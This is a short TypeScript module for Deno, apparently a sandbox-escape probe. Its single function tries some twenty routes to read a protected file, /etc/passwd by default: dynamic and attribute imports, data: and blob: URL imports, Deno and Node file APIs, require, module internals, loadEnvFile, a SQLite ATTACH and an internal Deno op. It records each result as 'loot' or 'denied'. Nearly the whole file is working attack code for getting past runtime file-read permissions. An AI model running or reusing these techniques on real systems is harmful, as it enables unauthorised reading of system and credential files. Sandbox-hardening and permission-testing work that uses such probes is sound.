// Reads a file in every other way there is.

/** What each attempt gave: the loot as text, or `denied`. */
async function attempt(attempts: Record<string, () => unknown>): Promise<Record<string, string>> {
  const results: Record<string, string> = {};
  for (const name of Object.keys(attempts)) {
    try {
      const loot = await attempts[name]();
      results[name] = typeof loot === "string" ? loot : Deno.inspect(loot);
    } catch (error) {
      results[name] = `denied ${String(error).slice(0, 200)}`;
    }
  }
  return results;
}

export function forward({ secret = "/etc/passwd" }) {
  const url = `file://${secret}`;
  const node = (name) => process.getBuiltinModule(name);
  const code = `export { default } from ${JSON.stringify(url)} with { type: "text" };`;
  return attempt({
    dynamic: () => import(url),
    text: async () => (await import(url, { with: { type: "text" } })).default,
    json: async () => (await import(url, { with: { type: "json" } })).default,
    throughData: async () => (await import(`data:text/javascript,${encodeURIComponent(code)}`)).default,
    throughBlob: async () =>
      (await import(URL.createObjectURL(new Blob([code], { type: "text/javascript" })))).default,
    deno: () => Deno.readTextFileSync(secret),
    denoOpen: () => Deno.openSync(secret),
    stat: () => Deno.statSync(secret),
    fetch: async () => (await fetch(url)).text(),
    node: () => node("fs").readFileSync(secret, "utf8"),
    exists: () => node("fs").existsSync(secret) ? "it exists" : "denied",
    require: () => node("module").createRequire("file:///")(secret),
    moduleLoad: () => node("module")._load(secret),
    findSourceMap: () => node("module").findSourceMap?.(secret) ?? "denied",
    loadEnvFile: () => node("process").loadEnvFile(secret) ?? Deno.inspect(process.env),
    sqlite: () => {
      const database = new (node("node:sqlite").DatabaseSync)(":memory:");
      database.exec(`ATTACH DATABASE '${secret}' AS loot`);
      return "attached";
    },
    ops: () => Deno[Deno.internal].core.ops.op_node_open_sync(secret, 0, 0),
    proc: () => Deno.readTextFileSync("/proc/self/maps"),
    bootModule: async () => Object.keys(await import(Deno.mainModule)).join() || "denied: it exports nothing",
  });
}
